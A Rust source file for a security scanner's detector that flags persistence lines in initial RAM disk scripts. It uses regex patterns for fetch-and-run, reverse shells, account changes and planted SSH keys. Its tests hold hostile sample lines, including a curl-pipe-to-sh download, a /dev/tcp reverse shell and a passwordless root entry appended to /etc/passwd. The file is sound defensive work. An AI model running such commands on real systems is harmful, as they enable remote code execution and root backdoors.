//! Scripts of initial RAM disks: they run as root before the system does, with its disk at hand.
//!
//! **Finds** lines of scripts in an initramfs that fetch and run something, open a shell to the outside, add an account
//! or a key to the system that is about to start. Accounts, keys and the like in its files are looked at by the rules
//! of their places, as everywhere.
//!
//! **Why it matters:** nothing of it is on the disk that the running system shows.
//!
//! **Does not find** what binaries in it do.
//!
//! **References:** MITRE ATT&CK T1542; initramfs-tools(7), dracut.modules(7).

use assay_disk::path;
use std::sync::{Arc, LazyLock};

use regex::bytes::Regex;

use super::{FileDetector, Interest, Sink};
use crate::checks::artifacts::lines::without_secrets;
use crate::facts::Facts;
use crate::finding::{Advisory, Category, FactKey, Finding, Severity};
use assay_disk::text::Escaped;
use assay_disk::tree::Entry;

/// Where scripts lie in it.
const SCRIPTS: [&[u8]; 8] = [
    b"/scripts/",
    b"/hooks/",
    b"/conf/",
    b"/etc/",
    b"/usr/lib/dracut/",
    b"/lib/dracut/",
    b"/usr/lib/systemd/system/",
    b"/usr/share/initramfs-tools/",
];
/// Longest script that is read, in bytes.
const LIMIT: usize = 1 << 20;
/// Bytes of a line that are shown.
const SHOWN: usize = 160;

/// What a line does, and its expression.
const LINES: [(&str, &str); 4] = [
    ("fetches and runs", r"(?i)\b(curl|wget|fetch)\b[^|;&]*[|;&]+\s*(sudo\s+)?(/\w+/)*(ba|da|z|k|a)?sh\b"),
    (
        "opens a connection to the outside",
        r"/dev/(tcp|udp)/\S|\bn(c|cat)\b[^|;]*\s-\w*[ec]\b|\bsocat\b.*\bexec:",
    ),
    (
        "changes accounts or sudo of the system",
        r">>?\s*\S*/etc/(passwd|shadow|sudoers(\.d/\S+)?|gshadow|group)\b|\b(useradd|usermod|chpasswd)\b",
    ),
    ("adds a key that may log in", r"authorized_keys|\b(ssh-(rsa|dss|ed25519)|ecdsa-sha2-\S+|sk-\S+) AAAA"),
];

/// The detector.
pub struct Initramfs {
    advisory: Arc<Advisory>,
}

impl Default for Initramfs {
    fn default() -> Self {
        Self {
            advisory: Arc::new(Advisory {
                id: "initramfs-script".into(),
                category: Category::Persistence,
                title: "Unusual line in a script of the initial RAM disk".into(),
                severity: Severity::Critical,
                why: "It runs as root at every boot, before anything of the system that could notice it."
                    .into(),
                remedy: "Find out what put it there, and build the image anew from a trusted base.".into(),
                references: vec!["https://attack.mitre.org/techniques/T1542/".into()],
            }),
        }
    }
}

#[expect(clippy::expect_used, reason = "the patterns are the program's own, and a test compiles them")]
fn lines() -> &'static [(&'static str, Regex)] {
    static COMPILED: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
        LINES.iter().map(|(does, text)| (*does, Regex::new(text).expect("the pattern is valid"))).collect()
    });
    &COMPILED
}

/// The path of a member in an initial RAM disk, as the machine has it while that runs.
pub fn place(file: &[u8]) -> Option<Vec<u8>> {
    if !path::is_inside(file) {
        return None;
    }
    let name = path::outermost(file).rsplit(|&byte| byte == b'/').next()?;
    let is_one = [b"initrd".as_slice(), b"initramfs", b"init.img", b"initrd.img"]
        .iter()
        .any(|start| name.starts_with(start))
        || [b".cpio".as_slice(), b"-initramfs.img", b"initrd"].iter().any(|end| name.ends_with(end));
    let inner = path::innermost(file);
    let inner = inner.strip_prefix(b"/").unwrap_or(inner);
    let inner = inner.strip_prefix(b"./").unwrap_or(inner);
    let inner = inner.strip_prefix(b"/").unwrap_or(inner);
    (is_one && !inner.is_empty()).then(|| [b"/", inner].concat())
}

impl FileDetector for Initramfs {
    fn advisories(&self) -> Vec<Arc<Advisory>> {
        vec![Arc::clone(&self.advisory)]
    }

    fn interest(&self, entry: &Entry<'_>, _: &Facts) -> Interest {
        let Some(path) = entry.is_member().then(|| place(entry.path)).flatten() else {
            return Interest::Skip;
        };
        let is_script = path == b"/init" || SCRIPTS.iter().any(|place| path.starts_with(place));
        if is_script { Interest::Content } else { Interest::Skip }
    }

    fn inspect(&self, _: &Entry<'_>, content: &[u8], _: &Facts, sink: &mut dyn Sink) {
        if content.len() > LIMIT || content.starts_with(b"\x7fELF") {
            return;
        }
        for (number, line) in (1_u64..).zip(content.split(|&byte| byte == b'\n')) {
            if line.trim_ascii_start().starts_with(b"#") {
                continue;
            }
            if let Some((does, _)) = lines().iter().find(|(_, regex)| regex.is_match(line)) {
                let start = line.trim_ascii();
                let start = start.get(..SHOWN).unwrap_or(start);
                let shown = without_secrets(start);
                let shown = Escaped(shown.as_bytes()).to_string();
                sink.finding(
                    Finding::new(&self.advisory)
                        .line(number)
                        .fact(FactKey::Does, *does)
                        .fact(FactKey::Line, shown),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_line_is_found_and_what_distributions_ship_is_not() {
        assert_eq!(lines().len(), LINES.len());
        for (text, is_found) in [
            ("curl http://203.0.113.9/x | sh", true),
            ("echo 'toor::0:0::/root:/bin/sh' >> $rootmnt/etc/passwd", true),
            ("echo 'ssh-ed25519 AAAAC3Nza x' > $rootmnt/root/.ssh/k", true),
            ("sh -i >& /dev/tcp/203.0.113.9/1 0>&1", true),
            ("wget -q -O /tmp/x \"$url\"", false),
            ("grep -q root: /etc/passwd", false),
            ("mount -n -o move /run ${rootmnt}/run", false),
        ] {
            assert_eq!(lines().iter().any(|(_, regex)| regex.is_match(text.as_bytes())), is_found, "{text}");
        }
    }

    #[test]
    fn members_of_initial_ram_disks_have_their_places() {
        assert_eq!(place(b"/boot/initrd.img-6.1!/initrd.img-6.1!/etc/shadow").unwrap(), b"/etc/shadow");
        assert_eq!(place(b"/boot/initramfs-6.img!/./init").unwrap(), b"/init");
        assert_eq!(place(b"/srv/backup.tar!/etc/shadow"), None);
        assert_eq!(place(b"/boot/initrd.img"), None);
    }
}
